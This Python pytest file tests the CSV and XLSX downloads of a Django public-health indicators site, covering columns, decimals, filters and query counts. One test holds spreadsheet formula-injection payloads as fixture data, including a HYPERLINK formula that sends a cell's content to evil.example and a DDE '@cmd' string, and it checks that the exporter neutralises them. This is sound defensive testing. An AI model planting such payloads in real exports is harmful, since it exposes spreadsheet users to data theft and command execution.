import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from indicators.exports import COLUMNS, neutralise_formula, values_dataset, values_download_links
from indicators.models import Area, Indicator, Period, Value
from tests.factories import (
    AreaFactory,
    BreakdownFactory,
    IndicatorFactory,
    PeriodFactory,
    ValueFactory,
    build_lancashire,
)

pytestmark = pytest.mark.django_db

EXPECTED_COLUMNS = [
    "indicator",
    "indicator_slug",
    "unit",
    "area_code",
    "area_name",
    "area_type",
    "period",
    "period_type",
    "breakdown_type",
    "breakdown",
    "value",
    "status",
    "count",
    "denominator",
    "lower_ci_95",
    "upper_ci_95",
    "note",
    "illustrative",
    "source",
    "revised_on",
    "previous_value",
]
PRESTON = "E07000123"


def read_csv(response) -> list[dict[str, str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the byte order mark, for Excel
    text = response.content.decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == EXPECTED_COLUMNS
    return list(reader)


def read_xlsx(response) -> list[dict[str, object]]:
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = sheet.iter_rows(values_only=True)
    assert list(header) == EXPECTED_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


def download(client, name: str, fmt: str, **kwargs) -> object:
    return client.get(reverse(f"indicators:{name}", kwargs={"fmt": fmt, **kwargs}))


@pytest.fixture
def lancashire(db):
    """The small Lancashire and its figures."""
    return build_lancashire()


def test_the_columns_are_the_documented_ones():
    assert list(COLUMNS) == EXPECTED_COLUMNS


def test_indicator_csv_has_every_value_of_the_indicator(lancashire, client):
    lancashire.add_districts(10, "cpp-rate", "2013-03-31")  # more rows than a page of the table
    response = download(client, "indicator_download", "csv", slug="cpp-rate")
    rows = read_csv(response)
    stored = Value.objects.for_indicator_table(Indicator.objects.get(slug="cpp-rate"))
    assert len(rows) == stored.count() == 27  # the whole table, not one page of it
    assert [(r["area_code"], r["period"]) for r in rows] == [
        (v.area.code, v.period.label) for v in stored
    ]
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="jsna-cpp-rate-{today}.csv"'


def test_csv_rows_hold_the_stored_figures_and_flags(lancashire, client):
    rows = read_csv(download(client, "indicator_download", "csv", slug="cpp-rate"))
    preston = next(r for r in rows if r["area_code"] == PRESTON and r["period"] == "31 March 2013")
    assert preston == {
        "indicator": "Children with a child protection plan (rate per 10,000 under 18s)",
        "indicator_slug": "cpp-rate",
        "unit": "rate per 10,000 population aged under 18",
        "area_code": PRESTON,
        "area_name": "Preston",
        "area_type": "District",
        "period": "31 March 2013",
        "period_type": "Snapshot date",
        "breakdown_type": "",
        "breakdown": "",
        "value": "73.3",
        "status": "Available",
        "count": "",
        "denominator": "",
        "lower_ci_95": "",
        "upper_ci_95": "",
        "note": "",
        "illustrative": "no",
        "source": "Department for Education: Characteristics of children in need; ONS mid-year "
        "population estimates",
        "revised_on": "",  # never revised
        "previous_value": "",
    }
    flags = {(r["area_code"], r["period"]): r["illustrative"] for r in rows}
    for value in Value.objects.filter(indicator__slug="cpp-rate").select_related("area", "period"):
        expected = "yes" if value.is_illustrative else "no"
        assert flags[(value.area.code, value.period.label)] == expected


def test_indicator_download_follows_the_page_filters(lancashire, client):
    url = reverse("indicators:indicator_download", kwargs={"slug": "cpp-rate", "fmt": "csv"})
    rows = read_csv(client.get(url, {"area_type": "district", "period": "2013-03-31"}))
    assert len(rows) == 4
    assert {r["area_type"] for r in rows} == {"District"}
    assert {r["period"] for r in rows} == {"31 March 2013"}


def test_xlsx_has_the_same_rows_with_numbers_as_numbers(lancashire, client):
    response = download(client, "indicator_download", "xlsx", slug="cpp-count")
    rows = read_xlsx(response)
    stored = list(
        Value.objects.filter(indicator__slug="cpp-count")
        .select_related("area", "period", "breakdown")
        .order_by("period__end_date", "area__name", "breakdown__dimension", "breakdown__sort_order")
    )
    assert len(rows) == len(stored) == 7
    for row, value in zip(rows, stored, strict=True):
        assert row["area_code"] == value.area.code
        assert isinstance(row["value"], (int, float))
        assert Decimal(str(row["value"])) == value.value
        assert Decimal(str(row["count"])) == value.count
        assert row["illustrative"] == ("yes" if value.is_illustrative else "no")
        assert row["breakdown"] == (value.breakdown.label if value.breakdown else None)
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="jsna-cpp-count-{today}.xlsx"'
    )


def test_decimals_are_written_without_float_noise(client):
    indicator = IndicatorFactory(unit="ratio", multiplier=1, decimal_places=3)
    ValueFactory(
        indicator=indicator,
        value=Decimal("0.3"),  # 0.1 + 0.2 as a float would be 0.30000000000000004
        lower_ci=Decimal("0.1"),
        upper_ci=Decimal("1234567.891"),
        count=Decimal("12.5"),
        denominator=Decimal("250000"),
    )
    (row,) = read_csv(download(client, "indicator_download", "csv", slug=indicator.slug))
    assert (row["value"], row["lower_ci_95"], row["upper_ci_95"]) == (
        "0.300",
        "0.100",
        "1234567.891",
    )
    assert (row["count"], row["denominator"]) == ("12.5", "250000")
    (cells,) = read_xlsx(download(client, "indicator_download", "xlsx", slug=indicator.slug))
    assert Decimal(str(cells["value"])) == Decimal("0.3")
    assert Decimal(str(cells["upper_ci_95"])) == Decimal("1234567.891")
    assert cells["denominator"] == 250000


def test_missing_values_are_empty_with_their_status(client):
    indicator = IndicatorFactory()
    ValueFactory(indicator=indicator, value=None, status="suppressed", note="Fewer than 5")
    (row,) = read_csv(download(client, "indicator_download", "csv", slug=indicator.slug))
    assert (row["value"], row["status"], row["note"]) == (
        "",
        "Suppressed (small numbers)",
        "Fewer than 5",
    )
    (cells,) = read_xlsx(download(client, "indicator_download", "xlsx", slug=indicator.slug))
    assert cells["value"] is None


def test_formula_injection_is_neutralised_and_negative_numbers_are_not(client):
    indicator = IndicatorFactory(unit="mean", multiplier=1, decimal_places=2)
    attack = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
    area = AreaFactory(name=attack)
    breakdown = BreakdownFactory(dimension="other", label="+SUM(1,2)")
    ValueFactory(
        indicator=indicator,
        area=area,
        breakdown=breakdown,
        value=Decimal("-3.25"),
        lower_ci=Decimal("-4.5"),
        upper_ci=Decimal("-2"),
        note="@cmd|' /C calc'!A0",
    )
    (row,) = read_csv(download(client, "indicator_download", "csv", slug=indicator.slug))
    assert row["area_name"] == "'" + attack
    assert row["breakdown"] == "'+SUM(1,2)"
    assert row["note"] == "'@cmd|' /C calc'!A0"
    assert (row["value"], row["lower_ci_95"], row["upper_ci_95"]) == ("-3.25", "-4.50", "-2.00")

    (cells,) = read_xlsx(download(client, "indicator_download", "xlsx", slug=indicator.slug))
    assert cells["area_name"] == "'" + attack
    assert cells["note"].startswith("'@")
    assert cells["value"] == -3.25 and cells["lower_ci_95"] == -4.5
    sheet = openpyxl.load_workbook(
        io.BytesIO(download(client, "indicator_download", "xlsx", slug=indicator.slug).content)
    ).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_neutralise_formula_covers_each_trigger():
    for text in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"]:
        assert neutralise_formula(text) == "'" + text
    assert neutralise_formula("Preston") == "Preston"
    assert neutralise_formula("'=already safe") == "'=already safe"


def test_area_download_has_the_rows_of_the_area_table(lancashire, client):
    area = Area.objects.get(code=PRESTON)
    response = download(client, "area_download", "csv", slug=area.slug)
    rows = read_csv(response)
    assert [(r["area_code"], r["value"], r["illustrative"]) for r in rows] == [
        (PRESTON, "73.3", "no"),
        ("E10000017", "40.3", "yes"),
        ("E12000002", "43.9", "yes"),
        ("E92000001", "37.9", "yes"),
    ]
    assert {r["period"] for r in rows} == {"31 March 2013"}
    today = timezone.localdate().isoformat()
    assert f'filename="jsna-{area.slug}-{today}.csv"' in response["Content-Disposition"]
    assert len(read_xlsx(download(client, "area_download", "xlsx", slug=area.slug))) == 4


def test_values_download_by_indicator_areas_and_period(lancashire, client):
    url = reverse("indicators:values_download", kwargs={"fmt": "csv"})
    response = client.get(
        url,
        {"indicator": "cpp-rate", "area": [PRESTON, "E92000001"], "period": "2013-03-31"},
    )
    rows = read_csv(response)
    assert sorted((r["area_code"], r["value"]) for r in rows) == [
        ("E07000123", "73.3"),
        ("E92000001", "37.9"),
    ]
    today = timezone.localdate().isoformat()
    assert f'filename="jsna-cpp-rate-{today}.csv"' in response["Content-Disposition"]
    everything = read_csv(client.get(url, {"indicator": "cpp-rate"}))
    assert len(everything) == 17


def test_values_download_by_breakdown(lancashire, client):
    url = reverse("indicators:values_download", kwargs={"fmt": "xlsx"})
    by_age = read_xlsx(client.get(url, {"indicator": "cpp-count", "breakdown": "age"}))
    assert {r["breakdown_type"] for r in by_age} == {"Age band"}
    whole = read_xlsx(client.get(url, {"indicator": "cpp-count", "breakdown": "none"}))
    assert {r["breakdown"] for r in whole} == {None}
    assert len(by_age) + len(whole) == Value.objects.filter(indicator__slug="cpp-count").count()


@pytest.mark.parametrize(
    "params",
    [
        {"indicator": "no-such-indicator"},
        {"indicator": "cpp-rate", "area": "E07999999"},
        {"indicator": "cpp-rate", "period": "1066"},
        {"indicator": "cpp-rate", "breakdown": "shoe-size"},
    ],
)
def test_values_download_unknown_parameters_are_404(lancashire, client, params):
    url = reverse("indicators:values_download", kwargs={"fmt": "csv"})
    assert client.get(url, params).status_code == 404


def test_values_download_needs_an_indicator(db, client):
    url = reverse("indicators:values_download", kwargs={"fmt": "csv"})
    assert client.get(url).status_code == 400


@pytest.mark.parametrize(
    "url",
    [
        "/data/download.pdf?indicator=cpp-rate",
        "/data/indicators/cpp-rate/download.json",
        "/data/areas/preston-e07000123/download.xls",
        "/data/indicators/no-such-indicator/download.csv",
        "/data/areas/nowhere-e07999999/download.xlsx",
    ],
)
def test_bad_format_or_unknown_object_is_404(lancashire, client, url):
    assert client.get(url).status_code == 404


def test_values_dataset_can_be_used_directly(client):
    indicator = IndicatorFactory(decimal_places=0)
    period = PeriodFactory(code="2012/13")
    ValueFactory(indicator=indicator, period=period, value=Decimal("12.5"), is_illustrative=True)
    dataset = values_dataset(Value.objects.filter(indicator=indicator))
    assert dataset.headers == EXPECTED_COLUMNS
    (row,) = dataset.dict
    assert row["value"] == Decimal("12")  # to the indicator's decimal places, as on the page
    assert row["illustrative"] == "yes"
    assert row["period_type"] == "Financial year"


def test_download_links_on_pages_say_the_format(lancashire, client):
    area = Area.objects.get(code=PRESTON)
    for url in ["/data/indicators/cpp-rate/", area.get_absolute_url()]:
        html = client.get(url).content.decode()
        assert "Download this data (CSV)" in html
        assert "Download this data (XLSX)" in html


def test_downloads_take_a_constant_number_of_queries(lancashire, client, django_assert_num_queries):
    url = reverse("indicators:values_download", kwargs={"fmt": "xlsx"})
    # indicator, areas, periods (checking the parameters), then the values with their relations
    with django_assert_num_queries(4):
        client.get(url, {"indicator": "cpp-rate", "area": PRESTON, "period": "2013-03-31"})
    # indicator, then the values with their relations
    with django_assert_num_queries(2):
        client.get(
            reverse("indicators:indicator_download", kwargs={"slug": "cpp-rate", "fmt": "csv"})
        )
    # the area with its parent chain, its comparator groups, the area's latest period per
    # indicator, the candidate values, then the values
    with django_assert_num_queries(5):
        client.get(
            reverse("indicators:area_download", kwargs={"slug": "preston-e07000123", "fmt": "csv"})
        )


def test_values_download_links_for_a_topic_section(lancashire, client):
    indicator = Indicator.objects.get(slug="cpp-rate")
    areas = Area.objects.filter(code__in=[PRESTON, "E92000001"]).order_by("code")
    links = values_download_links(
        indicator, areas=areas, periods=Period.objects.filter(code="2013-03-31"), breakdown="none"
    )
    assert [label for label, _ in links] == ["CSV", "XLSX"]
    csv_url, xlsx_url = (url for _, url in links)
    assert csv_url == (
        "/data/download.csv?indicator=cpp-rate&area=E07000123&area=E92000001"
        "&period=2013-03-31&breakdown=none"
    )
    assert [r["area_code"] for r in read_csv(client.get(csv_url))] == ["E92000001", PRESTON]
    assert len(read_xlsx(client.get(xlsx_url))) == 2


def test_no_download_links_without_figures(client):
    area = AreaFactory()
    indicator = IndicatorFactory()
    for url in [area.get_absolute_url(), indicator.get_absolute_url()]:
        html = client.get(url).content.decode()
        assert "Download this data" not in html


def test_control_characters_cannot_hide_a_formula_from_the_xlsx_check(client):
    indicator = IndicatorFactory()
    ValueFactory(indicator=indicator, note="\x01=1+1")
    (cells,) = read_xlsx(download(client, "indicator_download", "xlsx", slug=indicator.slug))
    assert cells["note"] == "'=1+1"
